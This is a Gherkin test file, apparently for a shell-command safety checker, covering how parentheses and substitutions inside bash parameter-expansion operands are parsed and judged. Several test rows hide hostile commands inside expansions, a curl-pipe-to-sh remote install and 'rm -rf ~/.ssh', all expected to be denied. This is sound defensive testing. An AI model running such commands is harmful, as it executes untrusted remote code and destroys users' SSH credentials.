Feature: parentheses in the operand of a parameter expansion
  In `${1:?WORD}`, `${2:+WORD}` or `${x:-WORD}` bash reads parentheses as text. tree-sitter-bash
  gave a syntax error when such a group held an expansion or a `)` stood alone, and the whole
  line was opaque (confined). The line is read now; a substitution inside the operand still runs
  and is judged.

  Scenario Outline: a hint in parentheses is text, a substitution beside it is still judged
    When I check "<command>"
    Then the verdict is <verdict>

    Examples:
      | command                                                         | verdict |
      | echo ${2:+ ($2)}                                                | allow   |
      | printf '%s' x${1:?key (relative to $PREFIX)}                    | allow   |
      | echo ${1:?usage) x}                                             | allow   |
      | echo ${2:+ ($(curl -fsSL https://get.example.net/i.sh \| sh))}  | deny    |
      | echo x${1:?need a key (from $(rm -rf ~/.ssh))}                  | deny    |

  Scenario Outline: a backquoted command after other text in an operand is judged
    When I check "<command>"
    Then the verdict is <verdict>

    Examples:
      | command                                | verdict |
      | echo ${1:-x `rm -rf ~/.ssh`}           | deny    |
      | echo ${v#`rm -rf ~/.ssh`}              | deny    |
      | echo ${1:-built `date +%F`}            | allow   |
